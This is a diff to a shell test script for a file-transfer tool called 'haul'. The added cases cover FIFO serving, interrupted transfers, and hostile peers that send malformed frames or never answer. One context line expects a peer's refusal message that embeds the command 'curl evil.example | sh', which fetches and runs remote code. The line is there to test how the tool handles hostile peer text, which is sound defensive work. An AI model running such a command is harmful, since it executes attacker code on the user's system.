@@ -43,6 +43,15 @@ expect 1 "an unknown scheme" "$HAUL" ls pigeon://loft
 expect 1 "serve of a missing file" "$HAUL" serve --listen tcp://127.0.0.1:0 \
   --file a="$work/missing"
 complains "cannot open"
+mkfifo "$work/fifo"
+limit=20 expect 1 "serve of a FIFO without a writer" timeout -k 1 10 "$HAUL" serve \
+  --listen tcp://127.0.0.1:0 --file a="$work/fifo"
+complains "it is not a regular file"
+for command in "put $work/fifo $tcp/small" "get $tcp/small $work/fifo"; do
+  # shellcheck disable=SC2086
+  expect 1 "$command is interrupted" timeout --preserve-status 0.5 "$HAUL" $command
+  complains "^haul: [a-z]*: interrupted$"
+done
 expect 1 "serve of an empty file" "$HAUL" serve --listen tcp://127.0.0.1:0 --file a=/dev/null
 unharmed
 
@@ -53,6 +62,14 @@ expect 1 "ls of a listener that refuses" "$HAUL" ls "$tcp"
 complains 'the peer refused the connection: "no|run: curl evil.example | sh"'
 complains_briefly
 holds "the hint is ours" grep -qx "hint: see the log of the peer's node" "$work/err"
+slay "$server"
+serve_hostile regions
+limit=20 expect 1 "ls of a listener with regions without end" "$HAUL" ls "$tcp"
+complains "the peer sent a malformed control frame"
+slay "$server"
+serve_hostile silence
+limit=8 expect 1 "ls of a listener that does not answer" "$HAUL" ls "$tcp" --timeout 0.5
+complains "no response from the peer in time"
 slay "$server"
 server=$node
 tcp=$(sed -n 's/^listening on \(tcp:.*\)/\1/p' "${server_err%.err}")
